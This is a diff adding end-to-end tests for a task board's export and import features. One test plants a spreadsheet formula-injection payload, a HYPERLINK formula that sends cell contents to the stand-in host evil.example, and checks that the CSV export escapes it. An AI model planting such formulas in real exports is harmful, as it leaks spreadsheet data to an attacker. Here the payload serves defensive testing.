@@ -103,6 +103,11 @@ describe('board export and import (e2e)', () => {
     // dueAt empty, then completedAt, then archivedAt empty.
     expect(lines[2]).toContain(`,,${done.completedAt},,`);
     expect(lines[1]).toMatch(/,,,[^,]+,[^,]+$/);
+    // A title a spreadsheet would run as a formula is written as text (a leading ').
+    await createTask(t, owner.auth, board.id, { columnId: board.columns[2].id, title: '=HYPERLINK("http://evil.example/?"&A1,"click")' });
+    const formula = (await t.http().get(`/api/v1/boards/${board.id}/export?format=csv`).set(owner.auth).expect(200)).text.trim().split('\n');
+    expect(formula).toHaveLength(4);
+    expect(formula[3]).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
     await t.http().get(`/api/v1/boards/${board.id}/export?format=xml`).set(owner.auth).expect(400);
     const stranger = await registerUser(t);
     await t.http().get(`/api/v1/boards/${board.id}/export`).set(stranger.auth).expect(404);
@@ -158,6 +163,8 @@ describe('board export and import (e2e)', () => {
       [JSON.stringify({ format: 'tasklane.board', version: 2 }), /file: version: must be 1/],
       [JSON.stringify({ format: 'tasklane.board', version: 1, board: { name: '' }, columns: [{ id: 'c', name: 'C' }], tasks: [{ columnId: 'nope', title: 'x' }, { columnId: 'c', title: 5, dueAt: 'tomorrow' }] }), /file: board\.name: must not be empty.*file: tasks\[0\]\.columnId.*file: tasks\[1\]\.title: must be a string.*file: tasks\[1\]\.dueAt/s],
       [JSON.stringify({ name: 'T', lists: [{ id: 'l', name: 'L' }], cards: [{ id: 'c', name: 'x', idList: 'missing' }] }), /file: cards\[0\]\.idList/],
+      // Names that differ only in case: one label to the database (it used to pass here, fail in the job and be reported as succeeded).
+      [JSON.stringify({ format: 'tasklane.board', version: 1, board: { name: 'B' }, labels: [{ name: 'Bug', color: '#ff0000' }, { name: 'bug', color: '#00ff00' }], columns: [], tasks: [] }), /file: labels\[1\]\.name: is used by another label/],
     ];
     for (const [content, message] of cases) {
       const res = await upload(user, content).expect(400);
@@ -166,6 +173,12 @@ describe('board export and import (e2e)', () => {
     }
     // No file part, and a plain JSON body.
     await upload(user, TRELLO, 'other').expect(400);
+    // Malformed multipart bodies (no boundary; a part cut short): 400, not 500.
+    const noBoundary = await t.http().post('/api/v1/boards/import').set(user.auth).set('Content-Type', 'multipart/form-data').send('--x\r\n');
+    expect({ status: noBoundary.status, code: noBoundary.body.code }).toEqual({ status: 400, code: 'VALIDATION_FAILED' });
+    const cut = '--b0\r\nContent-Disposition: form-data; name="file"; filename="board.json"\r\nContent-Type: application/json\r\n\r\n{"name":';
+    const cutShort = await t.http().post('/api/v1/boards/import').set(user.auth).set('Content-Type', 'multipart/form-data; boundary=b0').send(cut);
+    expect({ status: cutShort.status, code: cutShort.body.code }).toEqual({ status: 400, code: 'VALIDATION_FAILED' });
     await t.http().post('/api/v1/boards/import').set(user.auth).send({ name: 'x' }).expect(400);
     expect((await t.http().get('/api/v1/boards').set(user.auth).expect(200)).body.items.length).toBe(before);
   });
